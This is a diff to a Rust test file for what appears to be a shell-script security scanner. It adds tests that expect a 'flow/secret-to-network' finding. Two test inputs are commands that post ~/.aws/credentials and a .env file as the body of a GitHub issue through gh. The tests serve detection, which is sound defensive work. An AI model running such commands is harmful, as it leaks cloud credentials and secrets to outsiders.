@@ -1111,6 +1111,27 @@ fn a_downloaded_file_sourced_and_a_file_sent_through_gh() {
         "gh pr create --title \"$T\" --body-file PR.md\n",
     );
     assert!(level("flow/secret-to-network", &pr).is_none(), "{pr:?}");
+    assert_eq!(level("net/upload", &pr), Some(Severity::Medium), "{pr:?}");
+    let home = run(
+        FileKind::Script,
+        "x.sh",
+        "gh issue create -R o/r --title t --body-file ~/.aws/credentials\n",
+    );
+    assert_eq!(
+        level("flow/secret-to-network", &home),
+        Some(Severity::Critical),
+        "{home:?}"
+    );
+    let env = run(
+        FileKind::Script,
+        "x.sh",
+        "gh issue create -R o/r --title t --body-file .env\n",
+    );
+    assert_eq!(
+        level("flow/secret-to-network", &env),
+        Some(Severity::Critical),
+        "{env:?}"
+    );
 }
 
 /// An order to send a request, then the list of what it carries, with a file's whole text among them, is a flow
